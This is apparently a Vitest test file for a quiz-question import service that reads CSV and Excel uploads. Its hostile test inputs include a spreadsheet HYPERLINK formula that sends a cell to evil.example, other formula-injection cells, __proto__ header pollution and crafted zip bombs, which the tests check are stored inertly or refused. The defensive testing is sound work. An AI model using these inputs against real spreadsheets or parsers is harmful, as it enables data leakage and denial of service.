// The import service called directly: formats, every row rule, all-or-nothing, hostile files.
import zlib from 'node:zlib';
import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { DB } from '../../../db/client';
import { HEADERS, MAX_ROWS } from '../../../shared/domain/questionFormat';
import { importQuestions, type ImportRequest } from './importQuestions';
import { MAX_WARNINGS } from './limits';
import {
  countQuestions,
  countSets,
  csvFile,
  goodRows,
  makeImportCatalog,
  questionRow,
  tempDb,
  workbookFile,
  type ImportCatalog,
} from '../../test/importFiles';

let db: DB;
let close: () => Promise<void>;
let cat: ImportCatalog;
beforeEach(async () => {
  ({ db, close } = await tempDb());
  cat = await makeImportCatalog(db);
});
afterEach(async () => {
  await close();
});

function practice(file_name: string, bytes: Buffer, extra: Partial<ImportRequest> = {}): ImportRequest {
  return {
    file_name,
    bytes,
    quiz_type: 'practice',
    program_id: cat.programId,
    paper_id: cat.paperId,
    topic_id: cat.topicId,
    ...extra,
  };
}

/** A minimal ZIP (stored or deflated parts) whose central directory says what we tell it to. */
function zipOf(entries: Array<{ name: string; data: Buffer; method: 0 | 8; declared: number }>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(e.method, 8);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(e.declared, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(e.method, 10);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(e.declared, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, e.data);
    centrals.push(central, name);
    offset += local.length + name.length + e.data.length;
  }
  const cd = Buffer.concat(centrals);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(entries.length, 8);
  eocd.writeUInt16LE(entries.length, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, eocd]);
}

describe('good files', () => {
  it('imports a .csv into a new practice set titled from the file name, in file order', async () => {
    const answer = await importQuestions(db, practice('Vital signs 1.csv', csvFile(goodRows(12))));
    expect(answer).toMatchObject({ success: true, error: null, total_questions: 12 });
    expect(answer.set).toMatchObject({ type: 'practice', title: 'Vital signs 1', total_questions: 12 });
    const set = await db.selectFrom('practice_sets').selectAll().executeTakeFirstOrThrow();
    expect(set).toMatchObject({ id: answer.set?.id, topic_id: cat.topicId, title: 'Vital signs 1' });
    const rows = await db.selectFrom('questions').selectAll().orderBy('position').execute();
    expect(rows).toHaveLength(12);
    expect(rows.map((r) => r.position)).toEqual(Array.from({ length: 12 }, (_, i) => i + 1));
    expect(rows[0]).toMatchObject({
      practice_set_id: set.id,
      mock_exam_set_id: null,
      question_text: 'Question number 1: which option is right?',
      option_c: 'Option C1',
      correct_answer: 'B',
      explanation: 'Because 1.',
      text_key: 'question number 1 which option is right',
    });
  });

  it('imports an .xlsx and an .xls (Excel 97-2003) workbook', async () => {
    const x = await importQuestions(db, practice('set-a.xlsx', workbookFile(goodRows(7))));
    expect(x.set?.total_questions).toBe(7);
    const old = await importQuestions(db, practice('set-b.xls', workbookFile(goodRows(5), 'biff8')));
    expect(old.set?.total_questions).toBe(5);
    expect(await countQuestions(db)).toBe(12);
  });

  it('creates a mock exam set under the paper with the given title and time limit (default 60)', async () => {
    const mock = { quiz_type: 'mock' as const, topic_id: undefined };
    const a = await importQuestions(
      db,
      practice('m.csv', csvFile(goodRows(3)), { ...mock, title: 'Mock 1', time_limit_minutes: 45 }),
    );
    const b = await importQuestions(db, practice('Mock 2.csv', csvFile(goodRows(3)), mock));
    expect(a.set).toMatchObject({ type: 'mock', title: 'Mock 1' });
    const sets = await db.selectFrom('mock_exam_sets').selectAll().orderBy('id').execute();
    expect(sets.map((s) => [s.paper_id, s.title, s.time_limit_minutes])).toEqual([
      [cat.paperId, 'Mock 1', 45],
      [cat.paperId, 'Mock 2', 60],
    ]);
    expect(b.warnings).toHaveLength(3);
    const q = await db
      .selectFrom('questions')
      .selectAll()
      .where('mock_exam_set_id', '=', sets[0].id)
      .execute();
    expect(q).toHaveLength(3);
  });

  it('accepts headers in any case and order with spaces, skips blank rows, and numbers rows as the sheet does', async () => {
    const rows = goodRows(2);
    rows[0] = rows[0].map((h) => ` ${h.toUpperCase()} `).reverse();
    rows[1] = [...rows[1]].reverse();
    rows[2] = [...rows[2]].reverse();
    rows.splice(2, 0, ['', '', '', '', '', '', '']);
    const answer = await importQuestions(db, practice('x.csv', csvFile(rows), { dry_run: true }));
    expect(answer.success).toBe(true);
    expect(answer.preview?.map((p) => [p.row, p.correct_answer])).toEqual([
      [2, 'B'],
      [4, 'C'],
    ]);
  });

  it('stores the optional rationale columns (any case), and refuses one for the correct option', async () => {
    // Row 1's key is B and row 2's is C (questionRow).
    const header = [...HEADERS, ' Rationale_A ', 'RATIONALE_C'];
    const rows = [header, [...questionRow(1), 'A is the adult range.', ''], [...questionRow(2), '', 'C is right?']];
    const refused = await importQuestions(db, practice('r.csv', csvFile(rows)));
    expect(refused.success).toBe(false);
    expect(refused.row_errors).toEqual([
      {
        row: 3,
        column: 'rationale_c',
        reason: 'rationale_c says why option C is wrong, but C is the correct answer: leave the cell empty.',
      },
    ]);
    expect(await countQuestions(db)).toBe(0);

    rows[2][8] = '';
    rows[2][7] = 'A is a sign of shock, not of this.';
    const answer = await importQuestions(db, practice('r.csv', csvFile(rows)));
    expect(answer.success).toBe(true);
    const stored = await db
      .selectFrom('questions')
      .select(['rationale_a', 'rationale_b', 'rationale_c', 'rationale_d'])
      .orderBy('position')
      .execute();
    expect(stored).toEqual([
      { rationale_a: 'A is the adult range.', rationale_b: null, rationale_c: null, rationale_d: null },
      { rationale_a: 'A is a sign of shock, not of this.', rationale_b: null, rationale_c: null, rationale_d: null },
    ]);
  });

  it('a dry run answers with a preview and writes nothing', async () => {
    const answer = await importQuestions(
      db,
      practice('dry.xlsx', workbookFile(goodRows(8)), { dry_run: true }),
    );
    expect(answer).toMatchObject({ success: true, dry_run: true, total_questions: 8 });
    expect(answer.set).toBeUndefined();
    expect(answer.preview).toHaveLength(5);
    expect(answer.message).toMatch(/Nothing was saved/);
    expect(await countQuestions(db)).toBe(0);
    expect(await countSets(db)).toBe(0);
  });

  it('warns about questions already in the bank and repeated within the file, and still imports them', async () => {
    // New questions: their own rows in the new set are not "already in the bank".
    expect((await importQuestions(db, practice('first.csv', csvFile(goodRows(2))))).warnings).toEqual([]);
    const rows = goodRows(3);
    rows[1][0] = '  QUESTION number 1 -- which option is RIGHT ';
    rows.push([...rows[3]]);
    const expected = [
      'Row 5 repeats the question of row 4.',
      'Row 2: this question is already in the bank (it will be added again).',
      'Row 3: this question is already in the bank (it will be added again).',
    ];
    // The dry run looks the keys up; the upload asks the database after its insert: same answer.
    const dry = await importQuestions(db, { ...practice('second.csv', csvFile(rows)), dry_run: true });
    expect(dry.warnings).toEqual(expected);
    const answer = await importQuestions(db, practice('second.csv', csvFile(rows)));
    expect(answer.success).toBe(true);
    expect(answer.warnings).toEqual(expected);
    expect(await countQuestions(db)).toBe(6);
    // A third upload of the first file: both its questions are in the bank by now.
    const again = await importQuestions(db, practice('third.csv', csvFile(goodRows(2))));
    expect(again.warnings).toEqual([
      'Row 2: this question is already in the bank (it will be added again).',
      'Row 3: this question is already in the bank (it will be added again).',
    ]);
    expect(again.warning_count).toBeUndefined();
  });

  it('lists the first 500 warnings of a large re-upload and counts them all', async () => {
    await importQuestions(db, practice('big.csv', csvFile(goodRows(MAX_WARNINGS + 20))));
    const again = await importQuestions(db, practice('big again.csv', csvFile(goodRows(MAX_WARNINGS + 20))));
    expect(again.success).toBe(true);
    expect(again.warnings).toHaveLength(MAX_WARNINGS);
    expect(again.warnings[0]).toBe('Row 2: this question is already in the bank (it will be added again).');
    expect(again.warning_count).toBe(MAX_WARNINGS + 20);
    expect(await countQuestions(db)).toBe(2 * (MAX_WARNINGS + 20));
  });
});

describe('broken files: every failing row listed, nothing written', () => {
  it('lists each bad row with its number, column and reason', async () => {
    await importQuestions(db, practice('ok.csv', csvFile(goodRows(2))));
    const rows = goodRows(6);
    rows[1][5] = 'E';
    rows[2][3] = '   ';
    rows[3][5] = 'b';
    rows[4][0] = 'x'.repeat(2001);
    rows[5][5] = '';
    const answer = await importQuestions(db, practice('broken.csv', csvFile(rows)));
    expect(answer).toMatchObject({
      success: false,
      error_code: 'bad_rows',
      error: '5 rows of the file have problems; nothing was saved.',
    });
    expect(answer.row_errors).toEqual([
      {
        row: 2,
        column: 'correct_answer',
        reason: 'correct_answer must be exactly A, B, C or D (found "E").',
      },
      { row: 3, column: 'option_c', reason: 'option_c is empty.' },
      {
        row: 4,
        column: 'correct_answer',
        reason: 'correct_answer must be a capital letter: write "B", not "b".',
      },
      { row: 5, column: 'question_text', reason: 'question_text is 2001 characters long (limit 2000).' },
      { row: 6, column: 'correct_answer', reason: 'correct_answer is empty: write A, B, C or D.' },
    ]);
    expect(answer.required_format.join(' ')).toMatch(
      /question_text, option_a, option_b, option_c, option_d, correct_answer, explanation/,
    );
    expect(answer.help).toMatch(/template/);
    expect(await countQuestions(db)).toBe(2);
    expect(await countSets(db)).toBe(1);
  });

  it('writes nothing when the only bad rows come after a thousand good ones', async () => {
    // The rows are checked and written a slice at a time: the slices written before the bad
    // rows are rolled back with them.
    await importQuestions(db, practice('ok.csv', csvFile(goodRows(2))));
    const rows = goodRows(1300);
    rows[1201][1] = '';
    rows[1300][5] = 'F';
    for (const [name, bytes] of [
      ['late.csv', csvFile(rows)],
      ['late.xlsx', workbookFile(rows)],
    ] as const) {
      const answer = await importQuestions(db, practice(name, bytes));
      expect(answer).toMatchObject({
        success: false,
        error_code: 'bad_rows',
        error: '2 rows of the file have problems; nothing was saved.',
        row_error_count: 2,
      });
      expect(answer.row_errors).toEqual([
        { row: 1202, column: 'option_a', reason: 'option_a is empty.' },
        {
          row: 1301,
          column: 'correct_answer',
          reason: 'correct_answer must be exactly A, B, C or D (found "F").',
        },
      ]);
      expect(await countQuestions(db)).toBe(2);
      expect(await countSets(db)).toBe(1);
    }
    // The same file mended goes in whole, in file order.
    rows[1201][1] = 'Mended option';
    rows[1300][5] = 'A';
    const mended = await importQuestions(db, practice('late.csv', csvFile(rows)));
    expect(mended).toMatchObject({ success: true, total_questions: 1300 });
    expect(await countQuestions(db)).toBe(1302);
    const positions = await db
      .selectFrom('questions')
      .select(['position', 'option_a'])
      .where('practice_set_id', '=', mended.set!.id)
      .orderBy('position')
      .execute();
    expect(positions.map((q) => q.position)).toEqual(Array.from({ length: 1300 }, (_, i) => i + 1));
    expect(positions[1200].option_a).toBe('Mended option');
  });

  it('reports missing, unknown and repeated headers precisely, in one message', async () => {
    const rows = goodRows(2);
    rows[0] = ['question', 'option_a', 'option_b', 'option_c', 'option_c', 'correct_answer', 'explanation'];
    const answer = await importQuestions(db, practice('h.csv', csvFile(rows)));
    expect(answer.error_code).toBe('bad_header');
    expect(answer.error).toBe(
      'The header row does not match the template: missing question_text, option_d; unexpected "question"; repeated option_c.',
    );
    expect(answer.row_errors).toEqual([
      {
        row: 1,
        column: 'header',
        reason:
          'The header row must hold exactly question_text, option_a, option_b, option_c, option_d, correct_answer, explanation (and may add topic, rationale_a, rationale_b, rationale_c, rationale_d): missing question_text, option_d; unexpected "question"; repeated option_c.',
      },
    ]);
    expect(await countSets(db)).toBe(0);
  });

  it('treats __proto__ and constructor headers as unknown columns and leaves Object.prototype alone', async () => {
    const rows = goodRows(2).map((r) => [...r, 'polluted']);
    rows[0][7] = '__proto__';
    rows.forEach((r) => r.push('x'));
    rows[0][8] = 'constructor';
    const answer = await importQuestions(db, practice('p.csv', csvFile(rows)));
    expect(answer.error_code).toBe('bad_header');
    expect(answer.error).toBe(
      'The header row does not match the template: unexpected "__proto__", "constructor".',
    );
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype.toString.call({})).toBe('[object Object]');
    expect(await countQuestions(db)).toBe(0);
  });

  it('stores formula-looking CSV text as text, and refuses real formula cells in a workbook', async () => {
    const rows = goodRows(2);
    rows[1][0] = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    rows[1][1] = '=1+1';
    rows[1][2] = '+SUM(A1:A2)';
    rows[1][3] = '@cmd';
    const csv = await importQuestions(db, practice('f.csv', csvFile(rows)));
    expect(csv.success).toBe(true);
    const stored = await db.selectFrom('questions').selectAll().orderBy('id').executeTakeFirstOrThrow();
    expect([stored.question_text, stored.option_a, stored.option_b, stored.option_c]).toEqual(
      rows[1].slice(0, 4),
    );

    const before = await countQuestions(db);
    const sheetRows: Array<Array<string | { t: 'n' | 's'; f: string; v: number | string }>> = goodRows(2);
    sheetRows[2] = [...goodRows(2)[2]];
    sheetRows[2][1] = { t: 'n', f: '1+1', v: 2 };
    sheetRows[2][0] = { t: 's', f: 'HYPERLINK("http://evil.example","Click")', v: 'Click' };
    const xlsx = await importQuestions(db, practice('formulas.xlsx', workbookFile(sheetRows)));
    expect(xlsx.error_code).toBe('bad_rows');
    expect(xlsx.row_errors).toEqual([
      {
        row: 3,
        column: 'question_text',
        reason: 'The cell holds a formula; type the text itself (formulas are not accepted).',
      },
      {
        row: 3,
        column: 'option_a',
        reason: 'The cell holds a formula; type the text itself (formulas are not accepted).',
      },
    ]);
    expect(await countQuestions(db)).toBe(before);
  });

  it('refuses a huge cell as a row error', async () => {
    const rows = goodRows(3);
    rows[2][6] = 'y'.repeat(1_000_000);
    const answer = await importQuestions(db, practice('big.csv', csvFile(rows)));
    expect(answer.row_errors).toEqual([
      { row: 3, column: 'explanation', reason: 'explanation is 1000000 characters long (limit 3000).' },
    ]);
    expect(await countQuestions(db)).toBe(0);
  });

  it('refuses a NUL character in a workbook cell (_x0000_) or a CSV cell as a row error, and saves nothing', async () => {
    const rows = goodRows(3);
    // SheetJS writes the character as _x0000_ in the sheet's XML, as Excel does, and reads it back as NUL.
    rows[2][0] = 'Which sign\u0000 comes first?';
    const workbook = await importQuestions(db, practice('nul.xlsx', workbookFile(rows)));
    expect(workbook.success).toBe(false);
    expect(workbook.row_errors).toEqual([
      {
        row: 3,
        column: 'question_text',
        reason: 'question_text holds a NUL character (_x0000_ in a workbook); delete it and upload again.',
      },
    ]);
    // A NUL in a CSV's first 64 KB marks it as not text at all; one further on reaches the row check.
    const csvRows = goodRows(100);
    for (const row of csvRows.slice(1)) row[6] = 'x'.repeat(1000);
    csvRows[90][6] = 'Fever\u0000';
    const csv = await importQuestions(db, practice('nul.csv', csvFile(csvRows)));
    expect(csv.row_errors).toEqual([
      {
        row: 91,
        column: 'explanation',
        reason: 'explanation holds a NUL character (_x0000_ in a workbook); delete it and upload again.',
      },
    ]);
    expect(await countQuestions(db)).toBe(0);
  });

  it(`refuses more than ${MAX_ROWS} rows, and accepts a 10,000-question file`, async () => {
    const header = [...HEADERS];
    const many = [header, ...Array.from({ length: MAX_ROWS + 1 }, () => ['q', 'a', 'b', 'c', 'd', 'A', ''])];
    const tooMany = await importQuestions(db, practice('many.csv', csvFile(many)));
    expect(tooMany).toMatchObject({ success: false, error_code: 'too_many_rows' });
    expect(tooMany.error).toMatch(/more than 20,000 rows/);
    expect(await countQuestions(db)).toBe(0);

    const bank = await importQuestions(db, practice('bank.xlsx', workbookFile(goodRows(10_000))));
    expect(bank.set?.total_questions).toBe(10_000);
    expect(await countQuestions(db)).toBe(10_000);
  }, 60_000);

  it('refuses an empty file, a header-only file and a file over 5 MB', async () => {
    expect((await importQuestions(db, practice('e.csv', Buffer.alloc(0)))).error_code).toBe('no_file');
    expect((await importQuestions(db, practice('h.csv', csvFile([[...HEADERS]])))).error_code).toBe('empty');
    const big = await importQuestions(db, practice('big.csv', Buffer.alloc(5 * 1024 * 1024 + 1, 'a')));
    expect(big).toMatchObject({ error_code: 'file_too_large' });
    expect(big.error).toMatch(/limit is 5 MB/);
  });
});

describe('files that are not spreadsheets', () => {
  const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex');

  it('refuses a PNG renamed .xlsx or .csv, and a .txt or .json file', async () => {
    const asXlsx = await importQuestions(db, practice('photo.xlsx', png));
    expect(asXlsx).toMatchObject({ success: false, error_code: 'not_a_spreadsheet' });
    expect(asXlsx.error).toBe(
      '"photo.xlsx" is not an Excel workbook (it is a PNG image). Upload the template saved as .xlsx, .xls or .csv.',
    );
    expect((await importQuestions(db, practice('photo.csv', png))).error).toMatch(
      /is not a text CSV file \(it is a PNG image\)/,
    );
    expect((await importQuestions(db, practice('q.txt', csvFile(goodRows(1))))).error).toMatch(
      /not an accepted file type/,
    );
    expect(await countSets(db)).toBe(0);
  });

  it('refuses a damaged workbook with a clear error', async () => {
    const broken = workbookFile(goodRows(3)).subarray(0, 200);
    const answer = await importQuestions(db, practice('cut.xlsx', broken));
    expect(answer.error_code).toBe('unsafe_file');
    expect(answer.error).toMatch(/not a valid \.xlsx workbook/);
  });

  it('refuses a zip bomb by its declared size before parsing', async () => {
    const bomb = zipOf([
      {
        name: 'xl/worksheets/sheet1.xml',
        data: zlib.deflateRawSync(Buffer.alloc(1024)),
        method: 8,
        declared: 0x7fffffff,
      },
    ]);
    const answer = await importQuestions(db, practice('bomb.xlsx', bomb));
    expect(answer).toMatchObject({ success: false, error_code: 'unsafe_file' });
    expect(answer.error).toMatch(/more than 12 MB; this looks like a zip bomb/);
  });

  it('refuses a zip bomb that lies about its size', async () => {
    const data = zlib.deflateRawSync(Buffer.alloc(20 * 1024 * 1024));
    const bomb = zipOf([
      { name: '[Content_Types].xml', data: Buffer.from('<Types/>'), method: 0, declared: 8 },
      { name: 'xl/worksheets/sheet1.xml', data, method: 8, declared: 1000 },
    ]);
    const answer = await importQuestions(db, practice('liar.xlsx', bomb));
    expect(answer.error).toMatch(/unpacks to more than it declares/);
    expect(await countSets(db)).toBe(0);
  });

  it('runs one import at a time: the others meanwhile are told so and write nothing', async () => {
    const answers = await Promise.all(
      Array.from({ length: 5 }, (_, i) =>
        importQuestions(db, practice(`batch ${i}.xlsx`, workbookFile(goodRows(4)))),
      ),
    );
    expect(answers.filter((a) => a.success).map((a) => a.set?.total_questions)).toEqual([4]);
    const refused = answers.filter((a) => !a.success);
    expect(refused).toHaveLength(4);
    for (const answer of refused) {
      expect(answer).toMatchObject({
        error_code: 'import_running',
        error: 'Another import is running. Try again in a minute.',
      });
    }
    expect(await countQuestions(db)).toBe(4);
    // Once it is done, the next one goes in.
    const next = await importQuestions(db, practice('batch 5.xlsx', workbookFile(goodRows(4))));
    expect(next.set?.total_questions).toBe(4);
  });

  it('refuses a CSV that is not UTF-8, saying how to save it, and writes nothing', async () => {
    const rows = goodRows(2);
    rows[1][0] = `Café owner: ${rows[1][0]}`;
    const ansi = Buffer.from(Papa.unparse(rows), 'latin1');
    const answer = await importQuestions(db, practice('ansi.csv', ansi));
    expect(answer).toMatchObject({ success: false, error_code: 'wrong_encoding' });
    expect(answer.error).toBe(
      '"ansi.csv" is not saved as UTF-8 text, so its accented letters would come out wrong. In Excel choose File > Save As > "CSV UTF-8 (Comma delimited) (*.csv)" and upload that file.',
    );
    expect(await countQuestions(db)).toBe(0);
  });

  it('refuses a CSV row whose cells do not match the header (an unquoted comma), and writes nothing', async () => {
    const lines = Papa.unparse(goodRows(3)).split('\r\n');
    // Row 3's explanation holds a comma without quotes; row 4 lost its last two cells.
    lines[2] = `${lines[2]}, Beans and groundnuts`;
    lines[3] = lines[3].split(',').slice(0, 5).join(',');
    const answer = await importQuestions(db, practice('commas.csv', Buffer.from(lines.join('\r\n'))));
    expect(answer).toMatchObject({ success: false, error_code: 'bad_rows' });
    expect(answer.row_errors).toEqual([
      {
        row: 3,
        column: 'row',
        reason: 'Row 3 has 8 cells, the header has 7: put cells that contain commas in double quotes.',
      },
      {
        row: 4,
        column: 'row',
        reason: 'Row 4 has 5 cells, the header has 7: put cells that contain commas in double quotes.',
      },
    ]);
    expect(await countQuestions(db)).toBe(0);
  });

  it("reads a UTF-16 CSV with its byte-order mark (Excel's Unicode text, tab-separated)", async () => {
    const rows = goodRows(2);
    rows[1][0] = 'Ɛyɛ dɛn? Which sign shows dehydration in a child?';
    const text = rows.map((r) => r.join('\t')).join('\r\n');
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    const answer = await importQuestions(db, practice('unicode.csv', utf16));
    expect(answer).toMatchObject({ success: true });
    const texts = await db.selectFrom('questions').select('question_text').orderBy('position').execute();
    expect(texts.map((q) => q.question_text)).toEqual([rows[1][0], rows[2][0]]);
  });

  it('stops a parse that runs past the time limit', async () => {
    const answer = await importQuestions(db, practice('slow.xlsx', workbookFile(goodRows(3000))), {
      parseTimeoutMs: 1,
    });
    expect(answer).toMatchObject({ success: false, error_code: 'unreadable' });
    expect(answer.error).toMatch(/took longer than 0 seconds/);
  });
});

describe('placement and request fields', () => {
  it('refuses a topic of another paper, a paper of another program, a practice set without topic, a taken title', async () => {
    const file = csvFile(goodRows(1));
    expect((await importQuestions(db, practice('a.csv', file, { paper_id: cat.otherPaperId }))).error).toBe(
      'The chosen topic does not belong to the chosen paper.',
    );
    expect((await importQuestions(db, practice('a.csv', file, { program_id: 999 }))).error).toBe(
      'There is no program with id 999.',
    );
    expect((await importQuestions(db, practice('a.csv', file, { topic_id: null }))).error).toMatch(
      /Choose a topic/,
    );
    expect(
      (await importQuestions(db, practice('a.csv', file, { quiz_type: 'exam' as never }))).error_code,
    ).toBe('bad_input');
    expect(
      (await importQuestions(db, practice('a.csv', file, { quiz_type: 'mock', time_limit_minutes: 601 })))
        .error,
    ).toMatch(/1 to 600 minutes/);
    await importQuestions(db, practice('a.csv', file, { title: 'Set A' }));
    const again = await importQuestions(db, practice('a.csv', file, { title: 'Set A' }));
    expect(again).toMatchObject({ error_code: 'title_taken' });
    expect(again.error).toBe(
      'A practice set under this topic is already titled "Set A". Choose another title.',
    );
    expect(await countQuestions(db)).toBe(1);
  });

  it('numbers the title when a file of the same name is uploaded again under the same topic', async () => {
    const file = csvFile(goodRows(1));
    const titles = [];
    for (let i = 0; i < 3; i++)
      titles.push((await importQuestions(db, practice('week 1.csv', file))).set?.title);
    expect(titles).toEqual(['week 1', 'week 1 (2)', 'week 1 (3)']);
  });

  it('keeps row numbers right when a bad row follows quoted line breaks', async () => {
    const rows = goodRows(3);
    rows[1][0] = 'Line one\nline two';
    rows[3][5] = 'Z';
    const answer = await importQuestions(db, practice('nl.csv', csvFile(rows)));
    expect(answer.row_errors).toEqual([{ row: 4, column: 'correct_answer', reason: expect.any(String) }]);
    expect(questionRow(1)).toHaveLength(7);
  });
});

describe('adding to a set that exists', () => {
  /** An empty practice set, as Content Management creates one. */
  async function emptySet(title: string, topicId = cat.topicId) {
    const set = await db
      .insertInto('practice_sets')
      .values({ topic_id: topicId, title, created_at: new Date().toISOString() })
      .returning('id')
      .executeTakeFirstOrThrow();
    return set.id;
  }
  const questionsOf = (setId: number) =>
    db
      .selectFrom('questions')
      .select(['position', 'question_text'])
      .where('practice_set_id', '=', setId)
      .orderBy('position')
      .execute();

  it('fills an empty set made in Content Management, keeping its title', async () => {
    const setId = await emptySet('Week 3 revision');
    const answer = await importQuestions(
      db,
      practice('anything.csv', csvFile(goodRows(4)), { set_id: setId }),
    );
    expect(answer).toMatchObject({ success: true, total_questions: 4, warnings: [] });
    expect(answer.message).toBe(
      '4 questions added to the practice set "Week 3 revision", which now has 4 questions.',
    );
    expect(answer.set).toEqual({ type: 'practice', id: setId, title: 'Week 3 revision', total_questions: 4 });
    expect((await questionsOf(setId)).map((q) => q.position)).toEqual([1, 2, 3, 4]);
    expect(await countSets(db)).toBe(1);
  });

  it('appends after the questions the set holds and reports the ones it already has, not doubling them', async () => {
    const setId = await emptySet('Vital signs');
    await importQuestions(db, practice('first.csv', csvFile(goodRows(3)), { set_id: setId }));
    // Rows 2-4 are the three questions already in the set (one retyped in other case); 5-6 are new.
    const rows = goodRows(5);
    rows[2][0] = rows[2][0].toUpperCase();
    const dry = await importQuestions(
      db,
      practice('more.csv', csvFile(rows), { set_id: setId, dry_run: true }),
    );
    expect(dry.message).toBe(
      'The file is valid: 2 questions would be added to the practice set "Vital signs"; 3 questions already in it would be left out. Nothing was saved (dry run).',
    );
    expect(await questionsOf(setId)).toHaveLength(3);

    const answer = await importQuestions(db, practice('more.csv', csvFile(rows), { set_id: setId }));
    expect(answer.success).toBe(true);
    expect(answer.message).toBe(
      '2 questions added to the practice set "Vital signs", which now has 5 questions. 3 questions already in it were left out.',
    );
    expect(answer.warnings).toEqual([
      'Row 2: this question is already in this set; it is not added again.',
      'Row 3: this question is already in this set; it is not added again.',
      'Row 4: this question is already in this set; it is not added again.',
    ]);
    expect(dry.warnings).toEqual(answer.warnings);
    expect(answer.set).toMatchObject({ id: setId, total_questions: 5 });
    const held = await questionsOf(setId);
    expect(held.map((q) => q.position)).toEqual([1, 2, 3, 4, 5]);
    expect(held.slice(3).map((q) => q.question_text)).toEqual([
      'Question number 4: which option is right?',
      'Question number 5: which option is right?',
    ]);

    const again = await importQuestions(db, practice('more.csv', csvFile(rows), { set_id: setId }));
    expect(again).toMatchObject({ success: true, total_questions: 0 });
    expect(again.message).toBe(
      'No questions were added: the practice set "Vital signs" already has every question of the file.',
    );
    expect(await questionsOf(setId)).toHaveLength(5);
  });

  it('appends to a mock exam set under the paper and keeps its time limit', async () => {
    const mock = { quiz_type: 'mock' as const, topic_id: undefined };
    const made = await importQuestions(
      db,
      practice('m.csv', csvFile(goodRows(2)), { ...mock, title: 'Mock A', time_limit_minutes: 30 }),
    );
    const answer = await importQuestions(
      db,
      practice('n.csv', csvFile(goodRows(6)), { ...mock, set_id: made.set?.id, time_limit_minutes: 90 }),
    );
    expect(answer.message).toMatch(
      /^4 questions added to the mock exam set "Mock A", which now has 6 questions/,
    );
    const set = await db.selectFrom('mock_exam_sets').selectAll().executeTakeFirstOrThrow();
    expect(set).toMatchObject({ title: 'Mock A', time_limit_minutes: 30 });
    expect(await countSets(db)).toBe(1);
  });

  it('refuses a set of another topic or of the other kind, and a set that does not exist, writing nothing', async () => {
    const otherTopic = await db
      .insertInto('topics')
      .values({ paper_id: cat.paperId, name: 'Drugs', description: '', created_at: new Date().toISOString() })
      .returning('id')
      .executeTakeFirstOrThrow();
    const elsewhere = await emptySet('Elsewhere', otherTopic.id);
    const file = csvFile(goodRows(2));
    const refused = await importQuestions(db, practice('a.csv', file, { set_id: elsewhere }));
    expect(refused).toMatchObject({ success: false, error_code: 'bad_placement' });
    expect(refused.error).toBe(`There is no practice set with id ${elsewhere} under the chosen topic.`);
    expect(
      (
        await importQuestions(
          db,
          practice('a.csv', file, { quiz_type: 'mock', topic_id: null, set_id: elsewhere }),
        )
      ).error,
    ).toBe(`There is no mock exam set with id ${elsewhere} under the chosen paper.`);
    expect((await importQuestions(db, practice('a.csv', file, { set_id: -3 }))).error_code).toBe('bad_input');
    expect(await countQuestions(db)).toBe(0);
    expect(await countSets(db)).toBe(1);
  });
});
